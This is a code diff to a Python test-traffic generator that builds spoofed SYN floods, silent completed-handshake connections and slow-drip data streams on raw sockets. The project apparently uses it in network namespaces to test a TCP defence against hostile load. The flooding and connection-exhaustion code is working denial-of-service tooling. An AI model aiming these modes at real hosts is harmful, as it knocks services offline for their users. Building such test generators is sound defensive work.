@@ -1,5 +1,6 @@
 #!/usr/bin/env python3
-"""Hostile TCP traffic for the attack system test (tests/system/test_attack.py):
+"""Hostile TCP traffic for the attack system tests (tests/system/test_attack.py,
+test_hostile.py) and `tools/incast hostile`:
 a small packet generator on an AF_PACKET socket, bounded in count and time.
 
 Run inside a network namespace ("ip netns exec NS python3 tcp_attack.py ...").
@@ -28,8 +29,17 @@ prints one JSON line {"mode", "sent", "seconds", ...}.
             whose ACK number jumps by 2^29 every segment: each looks like
             a request and an ACK of a huge amount of data, so PAC holds
             them.
-    sink    a listener on --port that accepts and discards (the attacked
-            VM's service); prints "READY <port>" and runs until killed.
+    silent  SYNs from --src-net at --rate, and the handshake's ACK for every
+            SYN-ACK that comes back (the sources must be routed to this
+            host): completed connections that never carry data.
+    drip    --ports connections from --src-net without options (no MSS
+            option), each sending --payload bytes every --trickle-interval
+            seconds for --seconds.
+    connect real connections from this namespace to --dst-ip:--dport at
+            --rate a second, closed once open; prints the handshake times.
+    sink    a listener on --port that accepts, keeps every connection open
+            and discards what it reads (the attacked VM's service); prints
+            "READY <port>" and runs until killed.
 """
 
 from __future__ import annotations
@@ -39,6 +49,7 @@ import ipaddress
 import json
 import random
 import select
+import signal
 import socket
 import struct
 import sys
@@ -100,8 +111,20 @@ def parse_tcp(frame: bytes):
     return frame[26:30], frame[30:34], sport, dport, seq, ack, flags
 
 
+# Set by SIGTERM: every mode stops as if its time were up and prints its
+# line.
+STOP = [False]
+
+
+def stop_on_sigterm() -> None:
+    def handler(signum, frame):
+        STOP[0] = True
+    signal.signal(signal.SIGTERM, handler)
+
+
 class Pacer:
-    """Stops after 'count' frames or 'seconds'; sleeps to keep 'rate'."""
+    """Stops after 'count' frames or 'seconds' or at SIGTERM; sleeps to
+    keep 'rate'."""
 
     def __init__(self, count: int, rate: float, seconds: float):
         self.count, self.rate, self.seconds = count, rate, seconds
@@ -109,7 +132,7 @@ class Pacer:
         self.start = time.monotonic()
 
     def more(self) -> bool:
-        if self.sent >= self.count:
+        if self.sent >= self.count or STOP[0]:
             return False
         elapsed = time.monotonic() - self.start
         if elapsed >= self.seconds:
@@ -149,15 +172,46 @@ def addresses(net: str) -> list[bytes]:
     return [a.packed for a in ipaddress.ip_network(net).hosts()]
 
 
+class SynFramer:
+    """SYNs without options from one of 'srcs' to dst:dport, built with
+    checksums summed from parts precomputed per source: Framer.frame()
+    costs ~20 us in Python, too slow for 50 000 SYNs a second."""
+
+    FRAME = struct.Struct("!14sBBHHHBBH4s4sHHIIBBHHH")
+
+    def __init__(self, fr: Framer, srcs: list[bytes], dst: bytes,
+                 dport: int, flags: int = SYN, window: int = 64240):
+        self.eth, self.fr, self.srcs, self.dst = fr.eth, fr, srcs, dst
+        self.dport, self.flags, self.window = dport, flags, window
+        self.src_sums = [csum_add(a) for a in srcs]
+        self.tcp_base = (csum_add(dst) + 6 + 20 + dport + (5 << 12 | flags)
+                         + window)
+        self.ip_base = csum_add(struct.pack("!BBHHBB", 0x45, 0, 40, 0x4000,
+                                            64, 6) + dst)
+
+    def frame(self, i: int, sport: int, seq: int, ack: int = 0) -> bytes:
+        src_sum = self.src_sums[i]
+        tcp = csum_fold(self.tcp_base + src_sum + sport + (seq >> 16)
+                        + (seq & 0xffff) + (ack >> 16) + (ack & 0xffff))
+        self.fr.ip_id = ip_id = (self.fr.ip_id + 1) & 0xffff
+        ip = csum_fold(self.ip_base + src_sum + ip_id)
+        return self.FRAME.pack(self.eth, 0x45, 0, 40, ip_id, 0x4000, 64, 6,
+                               ip, self.srcs[i], self.dst, sport, self.dport,
+                               seq, ack, 5 << 4, self.flags, self.window,
+                               tcp, 0)
+
+
 def flood_syn(args, s: socket.socket, fr: Framer) -> dict:
     srcs = addresses(args.src_net)
-    dst = socket.inet_aton(args.dst_ip)
+    b = SynFramer(fr, srcs, socket.inet_aton(args.dst_ip), args.dport)
     p = Pacer(args.count, args.rate, args.seconds)
     failed = 0
+    rand = random.getrandbits
+    n = len(srcs)
     while p.more():
-        f = fr.frame(random.choice(srcs), dst, random.randrange(1024, 65536),
-                     args.dport, random.getrandbits(32), 0, SYN)
-        failed += not send(s, f)
+        r = rand(64)
+        failed += not send(s, b.frame(r % n, 1024 + (r >> 16) % 64512,
+                                      r >> 32))
         p.sent += 1
     return {"sent": p.sent, "send_errors": failed, "seconds": p.elapsed()}
 
@@ -265,33 +319,167 @@ def vmflood(args, s: socket.socket, fr: Framer) -> dict:
     return {"sent": p.sent, "send_errors": failed, "seconds": p.elapsed()}
 
 
+def silent(args, s: socket.socket, fr: Framer) -> dict:
+    """SYNs from --src-net (routed back to this host) and, for each SYN-ACK
+    that comes back, the handshake's ACK: connections that are real to the
+    target and never carry data."""
+    srcs = addresses(args.src_net)
+    index = {a: i for i, a in enumerate(srcs)}
+    dst = socket.inet_aton(args.dst_ip)
+    syn = SynFramer(fr, srcs, dst, args.dport)
+    ack = SynFramer(fr, srcs, dst, args.dport, flags=ACK)
+    s.setblocking(False)
+    p = Pacer(args.count, args.rate, args.seconds)
+    rand = random.getrandbits
+    n = len(srcs)
+    synacks = failed = 0
+    while p.more():
+        r = rand(64)
+        failed += not send(s, syn.frame(r % n, 1024 + (r >> 16) % 64512,
+                                        r >> 32))
+        p.sent += 1
+        while True:
+            try:
+                frame, addr = s.recvfrom(2048)
+            except BlockingIOError:
+                break
+            if addr[2] == socket.PACKET_OUTGOING:
+                continue
+            t = parse_tcp(frame)
+            if (t and t[0] == dst and t[2] == args.dport and t[1] in index
+                    and t[6] & (SYN | ACK) == SYN | ACK):
+                synacks += 1
+                failed += not send(s, ack.frame(index[t[1]], t[3], t[5],
+                                                (t[4] + 1) & 0xffffffff))
+    return {"sent": p.sent, "synacks": synacks, "send_errors": failed,
+            "seconds": p.elapsed()}
+
+
+def drip(args, s: socket.socket, fr: Framer) -> dict:
+    """--ports connections from --src-net without options (no MSS), each
+    sending a --payload-byte segment every --trickle-interval seconds until
+    --seconds: data that trickles faster than PAC's dry time."""
+    srcs = addresses(args.src_net)
+    dst = socket.inet_aton(args.dst_ip)
+    conns = []
+    start = time.monotonic()
+    for i in range(args.ports):
+        src, sport = srcs[i % len(srcs)], random.randrange(20000, 60000)
+        isn = random.getrandbits(32)
+        send(s, fr.frame(src, dst, sport, args.dport, isn, 0, SYN))
+        t = wait_synack(s, src, dst, sport, args.dport, 1.0)
+        if t is None:
+            continue
+        seq, ack = (isn + 1) & 0xffffffff, (t[4] + 1) & 0xffffffff
+        send(s, fr.frame(src, dst, sport, args.dport, seq, ack, ACK))
+        conns.append([src, sport, seq, ack])
+    payload = bytes(args.payload)
+    psum = csum_add(payload)
+    sent = 0
+    next_at = time.monotonic()
+    while conns and time.monotonic() - start < args.seconds and not STOP[0]:
+        for c in conns:
+            send(s, fr.frame(c[0], dst, c[1], args.dport, c[2], c[3],
+                             ACK | PSH, payload=payload, payload_sum=psum))
+            c[2] = (c[2] + len(payload)) & 0xffffffff
+            sent += 1
+        next_at += args.trickle_interval
+        delay = next_at - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+    return {"sent": sent, "established": len(conns),
+            "seconds": time.monotonic() - start}
+
+
+def connect_probe(args) -> int:
+    """Real connections (this namespace's TCP) to --dst-ip:--dport at --rate
+    a second for --seconds, each closed once open: how long each handshake
+    took, in milliseconds.  Prints {"connects", "failed", "p50_ms",
+    "p99_ms", "max_ms"}."""
+    times: list[float] = []
+    failed = 0
+    start = time.monotonic()
+    k = 0
+    while time.monotonic() - start < args.seconds and not STOP[0]:
+        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        c.settimeout(3.0)
+        t0 = time.monotonic()
+        try:
+            c.connect((args.dst_ip, args.dport))
+            times.append((time.monotonic() - t0) * 1000)
+        except OSError:
+            failed += 1
+        c.close()
+        k += 1
+        delay = start + k / args.rate - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+    times.sort()
+    pick = lambda q: round(times[min(len(times) - 1,
+                                     int(q * len(times)))], 3) if times else 0
+    print(json.dumps({"mode": "connect", "connects": len(times),
+                      "failed": failed, "p50_ms": pick(0.5),
+                      "p99_ms": pick(0.99),
+                      "max_ms": round(times[-1], 3) if times else 0}),
+          flush=True)
+    return 0
+
+
 def sink(args) -> int:
+    """Accepts on --port, keeps every connection open and discards what it
+    reads (epoll: tens of thousands of silent connections).  At SIGTERM it
+    resets them all (SO_LINGER 0: no FIN for the VM's TCP to retransmit to
+    hosts that never answer) and exits."""
+    import resource
+    import selectors
+
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    try:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 18, 1 << 18))
+    except (ValueError, OSError):
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     srv.bind((args.bind, args.port))
     srv.listen(4096)
+    srv.setblocking(False)
+    sel = selectors.DefaultSelector()
+    sel.register(srv, selectors.EVENT_READ)
     print(f"READY {srv.getsockname()[1]}", flush=True)
-    conns: list[socket.socket] = []
-    while True:
-        ready, _, _ = select.select([srv] + conns, [], [])
-        for r in ready:
+    linger = struct.pack("ii", 1, 0)
+    while not STOP[0]:
+        for key, _ in sel.select(0.2):
+            r = key.fileobj
             if r is srv:
-                c, _ = srv.accept()
+                try:
+                    c, _ = srv.accept()
+                except OSError:
+                    time.sleep(0.01)    # Out of descriptors: let them wait.
+                    continue
                 c.setblocking(False)
-                conns.append(c)
+                sel.register(c, selectors.EVENT_READ)
                 continue
             try:
                 data = r.recv(65536)
+            except BlockingIOError:
+                continue
             except OSError:
                 data = b""
             if not data:
-                conns.remove(r)
+                sel.unregister(r)
                 r.close()
+    for key in list(sel.get_map().values()):
+        if key.fileobj is not srv:
+            key.fileobj.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
+                                   linger)
+        key.fileobj.close()
+    return 0
 
 
 def main(argv: list[str]) -> int:
     p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    p.add_argument("mode", choices=["syn", "ack", "pin", "vmflood", "sink"])
+    p.add_argument("mode", choices=["syn", "ack", "pin", "vmflood", "silent",
+                                    "drip", "connect", "sink"])
     p.add_argument("--iface", default="eth0")
     p.add_argument("--dst-mac", help="aa:bb:cc:dd:ee:ff")
     p.add_argument("--dst-ip")
@@ -314,13 +502,17 @@ def main(argv: list[str]) -> int:
     p.add_argument("--seed", type=int, default=None)
     args = p.parse_args(argv)
     random.seed(args.seed)
+    stop_on_sigterm()
     if args.mode == "sink":
         return sink(args)
+    if args.mode == "connect":
+        return connect_probe(args)
     s = open_socket(args.iface)
     fr = Framer(mac_of(args.iface),
                 bytes.fromhex(args.dst_mac.replace(":", "")))
     result = {"syn": flood_syn, "ack": flood_ack, "pin": pin,
-              "vmflood": vmflood}[args.mode](args, s, fr)
+              "vmflood": vmflood, "silent": silent,
+              "drip": drip}[args.mode](args, s, fr)
     print(json.dumps({"mode": args.mode, **result}), flush=True)
     return 0
 
